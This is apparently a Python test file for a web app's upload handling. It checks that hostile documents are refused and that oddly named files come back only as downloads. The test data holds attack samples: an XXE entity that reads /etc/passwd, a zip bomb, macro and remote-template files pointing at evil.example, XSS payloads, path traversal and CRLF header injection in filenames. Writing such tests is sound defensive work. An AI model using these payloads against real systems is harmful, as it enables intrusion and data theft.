"""Files that people send in: hostile ones get a sentence, sound ones come back as they came."""

import io
import os
import signal
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import pytest
from werkzeug.test import TestResponse

from motionflow.domain.errors import Code
from tests.at_once import at_once
from tests.documents.motion_samples import TITLE, part_of, typed_docx, with_parts
from tests.kept import Kept
from tests.web.browsing import fields_of
from tests.web.world import Cases, World, says, wait_for_people, world

SOUND = typed_docx()
TYPES, DOCUMENT, RELATIONSHIPS = "[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")


def with_bomb() -> bytes:
    return with_parts(SOUND, {"word/media/image1.png": b"\0" * 40_000_000})


def with_entities() -> bytes:
    document_type = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return with_parts(SOUND, {DOCUMENT: document_type + part_of(SOUND, DOCUMENT).split(b"?>", 1)[1]})


def with_macros() -> bytes:
    types = part_of(SOUND, TYPES).replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    return with_parts(SOUND, {TYPES: types, "word/vbaProject.bin": b"macro"})


def with_template_from_elsewhere() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = (
        f'<Relationship Id="rIdX" Type="{kind}" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    )
    rels = part_of(SOUND, RELATIONSHIPS).replace(b"</Relationships>", link.encode() + b"</Relationships>")
    return with_parts(SOUND, {RELATIONSHIPS: rels})


def password_protected_zip() -> bytes:
    content = bytearray(SOUND)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        content[place + at] |= 1
    return bytes(content)


def empty_zip() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.txt", "a")
    return target.getvalue()


HOSTILE = {
    "cut": (SOUND[: len(SOUND) // 2], "forslag.docx", Code.FILE_NOT_READABLE),
    "no zip": (b"bare tekst", "forslag.docx", Code.FILE_NOT_READABLE),
    "no word": (empty_zip(), "forslag.docx", Code.FILE_KIND_UNKNOWN),
    "bomb": (with_bomb(), "forslag.docx", Code.FILE_UNPACKS_TOO_BIG),
    "entities": (with_entities(), "forslag.docx", Code.FILE_NOT_READABLE),
    "macros": (with_macros(), "forslag.docx", Code.FILE_HAS_MACROS),
    "macros by name": (SOUND, "forslag.docm", Code.FILE_HAS_MACROS),
    "template": (with_template_from_elsewhere(), "forslag.docx", Code.FILE_HAS_TEMPLATE),
    "password": (OLE, "forslag.docx", Code.FILE_ENCRYPTED),
    "zip password": (password_protected_zip(), "forslag.docx", Code.FILE_ENCRYPTED),
    "too big": (b"a" * 10_000_001, "forslag.txt", Code.FILE_TOO_BIG),
    "program": (b"MZ", "forslag.exe", Code.FILE_KIND_UNKNOWN),
    "page": (b"<script>alert(1)</script>", "forslag.html", Code.FILE_KIND_UNKNOWN),
    "bytes": (b"a\0b\1c", "forslag.txt", Code.FILE_NOT_READABLE),
    "empty": (b"", "forslag.txt", Code.FILE_HAS_NO_TEXT),
}


@dataclass(frozen=True)
class Place:
    world: World
    cases: Cases


@pytest.fixture(scope="module")
def place(kept: Kept, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with world(kept, tmp_path_factory.mktemp("world")) as made:
        cases = wait_for_people(made)
        made.browser("branch_secretary")  # signed in before anything is compared
        yield Place(made, cases)


def send_file(place: Place, path: str, content: bytes, name: str, **typed: str) -> TestResponse:
    """Send a form with a file, put together here: the name stands in it as an attacker writes it."""
    browser = place.world.browser("branch_secretary")
    page = "/nytt-forslag" if path.endswith("/les") else path
    fields = (
        fields_of(browser.get(page).text, with_field="pasted" if path.endswith("/les") else "title") | typed
    )
    head = '--grense\r\nContent-Disposition: form-data; name="{}"'
    body = "".join(f"{head.format(key)}\r\n\r\n{text}\r\n" for key, text in fields.items() if key != "file")
    body += f'{head.format("file")}; filename="{name}"\r\nContent-Type: application/x\r\n\r\n'
    data = body.encode(errors="surrogatepass") + content + b"\r\n--grense--\r\n"
    return browser.post(path, data=data, content_type="multipart/form-data; boundary=grense")


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_file_that_may_not_be_read_gets_a_sentence_and_is_not_kept(place: Place, kind: str) -> None:
    content, name, code = HOSTILE[kind]
    before = place.world.everything()

    to_read = send_file(place, "/nytt-forslag/les", content, name)
    source = send_file(place, f"/sak/{place.cases.in_inbox}/kilde", content, name, title="Avisa")

    for answer in (to_read, source):
        assert answer.status_code == 422
        assert says(answer, code, megabytes=10)
    assert fields_of(source.text, with_field="title")["title"] == "Avisa"
    assert place.world.everything() == before


def test_a_form_without_a_file_and_without_text_says_so(place: Place) -> None:
    answer = send_file(place, "/nytt-forslag/les", b"", "")
    assert answer.status_code == 422
    assert says(answer, Code.FILE_MISSING)


ODD_NAMES = [
    "../../../etc/passwd.docx",
    "a\0b \N{UPSIDE-DOWN FACE} Sámi.docx",
    "a" * 5000 + '<img src=x onerror="alert(1)">.docx',
    "\r\nX-Evil: 1.docx",
]


@pytest.mark.parametrize("name", ODD_NAMES)
def test_a_file_with_an_odd_name_is_kept_and_given_back_as_a_download_only(place: Place, name: str) -> None:
    quoted = name.replace('"', "%22").replace("\r\n", "%0D%0A")
    answer = send_file(place, "/nytt-forslag/les", SOUND, quoted)
    assert answer.status_code == 303, answer.text[-800:]
    browser = place.world.browser("branch_secretary")
    form = fields_of(browser.get(answer.headers["Location"]).text, with_field="title")
    assert form["title"] == TITLE
    handed_in = browser.post(
        "/nytt-forslag", data=form | {"body": place.world.party.branch_id, "decided": ""}
    )
    assert handed_in.status_code == 303
    given = browser.get(f"/fil/{form['upload']}")

    assert given.data == SOUND
    assert given.mimetype == "application/octet-stream"
    assert given.headers["X-Content-Type-Options"] == "nosniff"
    assert given.headers["Content-Disposition"].startswith("attachment;")
    assert len(given.headers["Content-Disposition"]) < 2000
    assert "X-Evil" not in given.headers
    given.close()


def test_a_file_without_a_name_is_no_fault_of_ours(place: Place) -> None:
    for name in (".docx", "\x01.docx", "\ud800.docx", "\0"):
        assert send_file(place, "/nytt-forslag/les", SOUND, name).status_code in (400, 422), name


def test_a_file_is_its_senders_until_it_is_handed_in(place: Place) -> None:
    kept = send_file(place, "/nytt-forslag/les", SOUND, "forslag.docx").headers["Location"].split("=")[1]
    roles = ("branch_chair", "member", "party_secretary", "stranger")
    browsers = {role: place.world.browser(role) for role in roles}
    before = place.world.everything()
    for role, browser in browsers.items():
        assert browser.get(f"/nytt-forslag?fil={kept}").status_code == 404
        assert browser.get(f"/fil/{kept}").status_code == 404
        if role != "stranger":
            fields = fields_of(browser.get("/nytt-forslag").text, with_field="title")
            typed = {"title": "Tyvgods", "proposed_decision": "Noe.", "upload": kept}
            assert browser.post("/nytt-forslag", data=fields | typed).status_code == 404
    assert place.world.everything() == before


def long_docx(*, paragraphs: int) -> bytes:
    lines = "".join(f"<w:p><w:r><w:t>Avsnitt {n} om veien.</w:t></w:r></w:p>" for n in range(paragraphs))
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'<w:document xmlns:w="{space}"><w:body>{lines}</w:body></w:document>'
    return with_parts(SOUND, {"word/document.xml": body.encode()})


def child_that_reads() -> int:
    """Return the process that reads a file, as soon as there is one."""
    ends = time.monotonic() + 30
    while time.monotonic() < ends:
        for children in Path("/proc/self/task").glob("*/children"):
            with suppress(OSError):  # a thread that has ended meanwhile
                for pid in map(int, children.read_text().split()):
                    if b"motionflow.documents.reading" in Path(f"/proc/{pid}/cmdline").read_bytes():
                        return pid
        time.sleep(0.002)
    raise TimeoutError("no file is being read")


@contextmanager
def stopped(pid: int) -> Iterator[None]:
    """Let a process wait meanwhile."""
    os.kill(pid, signal.SIGSTOP)
    try:
        yield
    finally:
        os.kill(pid, signal.SIGCONT)


def test_others_write_while_a_long_file_is_read(place: Place) -> None:
    """On SQLite one writes at a time, and to read a file takes as long as it is."""
    sent, reader = place.world.browser("branch_secretary"), place.world.browser("party_secretary")
    form = fields_of(reader.get("/nytt-forslag").text, action="/nytt-forslag/les")
    other = fields_of(sent.get("/nytt-forslag").text, with_field="title")
    ended: list[str] = []

    def read() -> None:
        upload = {"file": (io.BytesIO(long_docx(paragraphs=4000)), "lang.docx")}
        assert reader.post("/nytt-forslag/les", data=form | upload).status_code == 303
        ended.append("read")

    def write() -> None:
        wish = {"title": "Imens", "proposed_decision": "Ja."}
        with stopped(child_that_reads()):
            assert sent.post("/nytt-forslag", data=other | wish).status_code == 303
            ended.append("written")

    assert at_once([read, write]) == [None, None]
    assert ended == ["written", "read"]
